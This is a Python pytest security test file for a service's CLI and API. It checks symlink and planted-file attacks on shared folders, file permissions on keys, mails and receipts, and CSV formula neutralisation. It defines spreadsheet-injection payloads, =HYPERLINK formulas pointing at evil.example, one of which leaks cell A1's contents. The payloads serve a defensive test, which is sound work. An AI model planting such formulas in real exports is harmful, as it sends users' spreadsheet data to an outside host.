"""Files that commands write, in a folder in which others can write, too; and files that the service keeps itself."""

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from application.csv_rows import text_in
from tests.support.api import Api
from tests.support.cli import CommandLine
from tests.support.cli_people import file_of, line, person
from tests.support.running import follow_to_head, worker
from tests.support.waiting import eventually

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Your prize")'
NAME = '=HYPERLINK("http://evil.example")'
WRITERS: dict[str, tuple[str, ...]] = {
    "facts.jsonl": ("audit", "search", "--format", "jsonl"),
    "facts.csv": ("audit", "search", "--format", "csv"),
    "facts.json": ("audit", "search", "--format", "cloudevents"),
    "events.bundle": ("audit", "bundle", "--from", "1"),
    "directory.csv": ("projections", "as-of", "user_directory", "--position", "4"),
    "directory.jsonl": ("projections", "as-of", "user_directory", "--position", "4"),
    "counts.csv": ("projections", "as-of", "user_statistics", "--position", "4", "--counts"),
}
"""Commands that write a file, by the name that it has here."""


@pytest.fixture(autouse=True)
def _no_umask() -> Iterator[None]:
    before = os.umask(0)
    yield
    os.umask(before)


@pytest.fixture
def reprise(database: str, home: Path, tmp_path: Path) -> CommandLine:
    reprise = CommandLine(home, database)
    people = tmp_path / "people.jsonl"
    people.write_bytes(file_of(line(person("ann", displayName=NAME)), line(person("bob"))))
    assert reprise.call("import", str(people)).code == 0
    return reprise


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A folder for everybody, like /tmp."""
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o777)
    return folder


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


@pytest.mark.parametrize("name", WRITERS)
def test_whoever_can_write_to_the_folder_gets_nothing_and_directs_nothing(
    reprise: CommandLine, shared: Path, name: str
) -> None:
    output = shared / name
    output.touch(mode=0o666)
    planted = [shared / f".{name}.{ending}" for ending in ("part", "unfinished", "tmp")]
    for path in planted:
        path.touch(mode=0o666)
    kept_open = [path.open("rb") for path in (output, *planted)]

    ended = reprise.call(*WRITERS[name], "--output", str(output))

    assert (ended.code, ended.err) == (0, "")
    assert [file.read() for file in kept_open] == [b""] * len(kept_open)
    assert (mode_of(output), output.stat().st_size > 0) == (0o600, True)
    for file in kept_open:
        file.close()


@pytest.mark.parametrize("name", WRITERS)
def test_no_link_leads_a_writer_elsewhere(reprise: CommandLine, shared: Path, name: str) -> None:
    victim = shared / "victim"
    victim.write_text("theirs")
    (shared / name).symlink_to(victim)

    ended = reprise.call(*WRITERS[name], "--output", str(shared / name))

    assert (ended.code, name in ended.err) == (1, True)
    assert victim.read_text() == "theirs"
    assert sorted(path.name for path in shared.iterdir()) == sorted([name, "victim"])


@pytest.mark.parametrize("there", ["file", "link"])
def test_a_persons_data_replaces_nothing_that_appeared_meanwhile(
    reprise: CommandLine, shared: Path, there: str
) -> None:
    output = shared / "ann.zip"
    if there == "file":
        output.write_text("theirs")
    else:
        output.symlink_to(shared / "elsewhere")

    ended = reprise.call("users", "export", "ann@example.com", "--output", str(output), "--json")

    assert (ended.code, ended.json["error"]["code"]) == (1, "file_exists")
    assert list(shared.iterdir()) == [output]


def test_no_file_of_the_service_can_be_read_by_others(reprise: CommandLine, home: Path, shared: Path) -> None:
    ann, bob = "ann@example.com", "bob@example.com"
    done = [
        reprise.call("audit", "checkpoint"),
        reprise.call("token", "--role", "admin"),
        reprise.call("token", "--role", "admin", "--rotate"),
        reprise.call("users", "export", ann, "--output", str(shared / "ann.zip")),
        reprise.call("backup", str(shared / "log"), "--keys", str(shared / "keys")),
        reprise.call("users", "erase", bob, "--reason", "Case 1", "--yes"),
    ]
    assert [ended.err for ended in done if ended.code] == []

    files = [path for folder in (home, shared) for path in folder.rglob("*") if path.is_file()]
    open_to_all = {path.name for path in files if mode_of(path) & 0o077}

    assert {"claims.key", "service.key", "checkpoint-key.json", "token-signing.jwk", "ann.zip"} <= {
        path.name for path in files
    }
    assert {path.name for path in files if path.suffix == ".gz"} != set()
    assert open_to_all == {"jwks.json"}


def test_mails_and_receipts_can_be_read_by_nobody_else(own_api: Api) -> None:
    with worker(own_api.settings, own_api.conninfo):
        user_id = own_api.user_id("ann@example.com")
        own_api.mailed_token("ann@example.com")
        outbox = own_api.settings.home / "outbox"
        modes = {mode_of(path) for path in outbox.iterdir()}
        assert own_api.admin.post(f"/v1/users/{user_id}/erasure", {"reason": "Case 1"}).is_success
        receipts = own_api.settings.home / "receipts" / "erasures.jsonl"
        eventually(receipts.exists, "the receipt")

    assert (modes, mode_of(receipts)) == ({0o600}, 0o600)


def test_no_table_that_is_exported_holds_a_formula(reprise: CommandLine, shared: Path) -> None:
    outputs = {name: shared / name for name in WRITERS if name.endswith(".csv")}
    erased = reprise.call("users", "erase", "bob@example.com", "--reason", FORMULA, "--yes")
    assert erased.code == 0, erased.err
    for name, path in outputs.items():
        assert reprise.call(*WRITERS[name], "--output", str(path)).code == 0

    cells = {name: cells_in(path.read_text(encoding="utf-8")) for name, path in outputs.items()}

    assert [cell for found in cells.values() for cell in found if cell.startswith(("=", "+", "-", "@"))] == []
    assert f"'{NAME}" in cells["directory.csv"]
    assert f"'{FORMULA}" in cells["facts.csv"]
    assert {NAME, FORMULA} <= {text_in(cell) for found in cells.values() for cell in found}


def test_no_table_over_http_holds_a_formula(own_api: Api) -> None:
    user_id = own_api.user_id()
    own_api.admin.patch(f"/v1/users/{user_id}", {"country": "NO"}, headers={"Reprise-Reason": FORMULA})
    follow_to_head(own_api.conninfo)

    cells = cells_in(own_api.admin.get("/v1/audit/events/export", params={"format": "csv"}).text)

    assert f"'{FORMULA}" in cells
    assert [cell for cell in cells if cell.startswith("=")] == []


def cells_in(table: str) -> list[str]:
    return [cell for row in csv.reader(table.splitlines()) for cell in row]
